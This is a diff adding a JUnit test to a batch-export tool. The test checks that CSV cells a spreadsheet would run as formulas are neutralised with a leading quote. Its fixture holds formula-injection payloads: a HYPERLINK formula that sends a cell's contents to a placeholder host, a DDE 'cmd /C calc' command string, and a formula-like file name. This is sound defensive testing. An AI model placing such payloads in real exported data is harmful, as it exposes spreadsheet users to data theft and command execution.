@@ -141,6 +141,40 @@ class BatchExportTest {
     }
 
     /** Reads a CSV file with Jackson's CSV module, the BOM taken off, as rows of strings. */
+    /** Cells that a spreadsheet would run as formulas, in the content and progress columns. */
+    private static final String FORMULAS = String.join("\n",
+            "市教育局1-9月份分解落实2021年政府工作目标进展情况",
+            "一、重点工作",
+            "序号\t来源\t工作内容\t工作部门及负责人\t工作进展情况",
+            "1\t第1项\t=HYPERLINK(\"http://example.invalid/?\"&A1,\"点击\")\t基教科\t+1完成",
+            "2\t第2项\t@SUM(1+1)*cmd|' /C calc'!A0\t人事科\t-3项未完成",
+            "");
+
+    @Test
+    void csvCellsThatASpreadsheetWouldRunAreNeutralisedWithAQuote() throws IOException {
+        Path folder = tmp.resolve("formulas");
+        Files.createDirectories(folder);
+        Files.writeString(folder.resolve("=1+2.txt"), FORMULAS, StandardCharsets.UTF_8);
+        Path out = tmp.resolve("csv-formulas");
+        Run run = Run.jindu("batch", "--db", tmp.resolve("f.sqlite").toString(), "--format", "csv",
+                "-o", out.toString(), folder.toString());
+        assertEquals(0, run.code(), run.err());
+
+        List<List<String>> records = readCsv(out.resolve("records.csv"));
+        List<String> header = records.get(0);
+        assertEquals(List.of("'=HYPERLINK(\"http://example.invalid/?\"&A1,\"点击\")", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+                records.subList(1, 3).stream().map(r -> r.get(header.indexOf("content"))).toList());
+        assertEquals(List.of("'+1完成", "'-3项未完成"),
+                records.subList(1, 3).stream().map(r -> r.get(header.indexOf("progress"))).toList());
+        List<List<String>> documents = readCsv(out.resolve("documents.csv"));
+        assertEquals("'=1+2.txt", documents.get(1).get(documents.get(0).indexOf("file")));
+        // a number is a number, not text to neutralise; no temporary file is left behind
+        assertEquals("2", documents.get(1).get(documents.get(0).indexOf("record_count")));
+        try (var files = Files.list(out)) {
+            assertEquals(TABLES.size(), files.count());
+        }
+    }
+
     private static List<List<String>> readCsv(Path file) throws IOException {
         String text = Files.readString(file, StandardCharsets.UTF_8);
         assertTrue(text.startsWith("\uFEFF"));
